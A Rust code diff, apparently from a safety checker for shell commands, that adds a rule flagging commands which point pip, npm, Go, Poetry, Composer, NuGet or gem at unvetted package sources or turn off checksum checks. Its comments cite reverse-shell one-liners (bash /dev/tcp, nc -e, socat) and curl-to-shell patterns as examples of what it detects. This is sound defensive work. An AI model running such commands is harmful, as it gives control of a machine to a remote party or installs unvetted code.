@@ -8,9 +8,14 @@
 //! only when the program comes from stdin: `curl URL | python3 -m json.tool` is data.
 //! A reverse shell, a shell whose input or output is a network socket (`bash -i >&
 //! /dev/tcp/H/P 0>&1`, `nc -e /bin/sh H P`, `socat TCP:H:P EXEC:sh`, `nc H P | sh`), hands
-//! the machine to whoever is on the other end: `remote-script.reverse-shell`.
+//! the machine to whoever is on the other end: `remote-script.reverse-shell`. Package
+//! sources pointed at an index nobody vetted, so that the next install downloads and runs its
+//! code (`PIP_INDEX_URL=http://… pip install`, `go env -w GOPROXY=… GONOSUMDB=*`, `poetry
+//! source add`, `composer config secure-http false`, `dotnet nuget add source`, `npm config set
+//! registry`), ask: `remote-script.registry-redirect`.
 
 use super::{Call, Hit};
+use crate::name_filter::NameFilter;
 use crate::shell::{Analysis, RedirectOp, SimpleCommand, Stdin};
 
 /// A run-time name (`curl URL | $SHELL`) is tried as a shell.
@@ -47,9 +52,95 @@ const PASS_THROUGH: &[&str] = &[
 
 const MESSAGE: &str = "This runs a script straight from the network without anyone reading it. Download it to a file (`curl -fsSLo install.sh URL`), read it, then run it, or ask the user.";
 
+const REDIRECT_MESSAGE: &str = "This points package installs at a source nobody vetted (or switches checksum checks off): the next install downloads and runs its code. Ask the user to change where packages come from.";
+
+/// The commands that set where packages come from, for the rest of the session or in a
+/// tool's configuration.
+const SOURCE_SETTER_NAMES: &[&str] =
+    &["bun", "composer", "dotnet", "export", "gem", "go", "npm", "pnpm", "poetry", "yarn"];
+const SOURCE_SETTERS: NameFilter = NameFilter::of(SOURCE_SETTER_NAMES);
+
+/// Whether `call` points package installs at another index, or switches Go's checksum
+/// database off: through the variables it sets for a command (`X=url cmd`, `env`, `export`) or
+/// `go env -w`, or through a tool's own configuration command.
+#[inline(never)] // off an allowed call's path (ARCHITECTURE.md, "Start-up")
+fn redirects(call: &Call) -> bool {
+    if call.command.assignments.iter().any(|(variable, value)| redirecting(variable, &value.text)) {
+        return true;
+    }
+    let Some(name) = call.name.filter(|name| SOURCE_SETTER_NAMES.contains(name)) else { return false };
+    let words: Vec<&str> = call.args().iter().map(|w| w.text.as_str()).collect();
+    let operands: Vec<&str> = words.iter().copied().filter(|w| !w.starts_with('-')).collect();
+    let elsewhere = |url: &str| url.contains("://") && !crate::shell::is_default_index(url);
+    let setting =
+        |word: &str| word.split_once('=').is_some_and(|(variable, value)| redirecting(variable, value));
+    match (name, operands.as_slice()) {
+        ("export", _) => operands.iter().any(|w| setting(w)),
+        // `go env -w $(…)`: a setting the line computes at run time may be any of them.
+        ("go", ["env", ..]) => {
+            words.contains(&"-w")
+                && (operands[1..].iter().any(|w| setting(w)) || call.args().iter().any(|w| w.dynamic))
+        }
+        ("poetry", ["source", "add", _, url, ..]) => elsewhere(url),
+        ("poetry", ["config", key, url, ..]) => key.starts_with("repositories.") && elsewhere(url),
+        ("composer", ["config", key, rest @ ..]) => {
+            key.starts_with("repositories") && rest.iter().any(|w| elsewhere(w))
+                || (*key == "secure-http" && rest.first() == Some(&"false"))
+                || (*key == "disable-tls" && rest.first() == Some(&"true"))
+        }
+        ("dotnet", ["nuget", "add" | "update", "source", url, ..]) => elsewhere(url),
+        ("gem", ["sources", ..]) => {
+            words.iter().any(|w| matches!(*w, "-a" | "--add")) && operands.iter().any(|w| elsewhere(w))
+        }
+        ("npm" | "pnpm" | "yarn" | "bun", ["config", "set", key, rest @ ..]) => {
+            let (key, inline) = key.split_once('=').unwrap_or((key, ""));
+            let registry = key == "registry" || key.ends_with(":registry") || key == "npmRegistryServer";
+            registry && (elsewhere(inline) || rest.first().is_some_and(|url| elsewhere(url)))
+        }
+        _ => false,
+    }
+}
+
+/// Whether setting `variable` to `value` points installs at another index or switches Go's
+/// checksum database off (`GOSUMDB=off`, `GONOSUMDB=*`, `GOFLAGS=-insecure`).
+fn redirecting(variable: &str, value: &str) -> bool {
+    let elsewhere = |url: &str| url.contains("://") && !crate::shell::is_default_index(url);
+    match variable.to_ascii_uppercase().as_str() {
+        "PIP_INDEX_URL"
+        | "PIP_EXTRA_INDEX_URL"
+        | "PIP_FIND_LINKS"
+        | "UV_INDEX_URL"
+        | "UV_EXTRA_INDEX_URL"
+        | "UV_INDEX"
+        | "UV_DEFAULT_INDEX"
+        | "UV_FIND_LINKS"
+        | "NPM_CONFIG_REGISTRY"
+        | "YARN_REGISTRY"
+        | "YARN_NPM_REGISTRY_SERVER"
+        | "BUN_CONFIG_REGISTRY"
+        | "PNPM_CONFIG_REGISTRY" => value.split([' ', ',']).any(elsewhere),
+        "GOPROXY" => value.split([',', '|']).any(|proxy| {
+            proxy.contains("://")
+                && !proxy.split("://").nth(1).is_some_and(|host| host.starts_with("proxy.golang.org"))
+        }),
+        "GOSUMDB" => value == "off" || value.contains("://") && !value.contains("sum.golang.org"),
+        "GONOSUMDB" | "GONOSUMCHECK" | "GONOVERIFY" | "GOINSECURE" | "GOPRIVATE" | "GONOPROXY" => {
+            value.split(',').any(|pattern| pattern.trim() == "*")
+                || variable.eq_ignore_ascii_case("GONOSUMCHECK")
+        }
+        "GOFLAGS" => value.split_whitespace().any(|flag| flag.starts_with("-insecure")),
+        _ => false,
+    }
+}
+
 const REVERSE_MESSAGE: &str = "This connects a shell to a network socket: whoever is on the other end controls this machine. Ask the user to do it.";
 
 pub(super) fn judge(call: &Call) -> Option<Hit> {
+    if (!call.command.assignments.is_empty() || call.name.is_some_and(|name| SOURCE_SETTERS.may_hold(name)))
+        && redirects(call)
+    {
+        return Some(Hit::ask("remote-script.registry-redirect", REDIRECT_MESSAGE));
+    }
     if reverse_shell(call) {
         return Some(Hit::new("remote-script.reverse-shell", REVERSE_MESSAGE));
     }
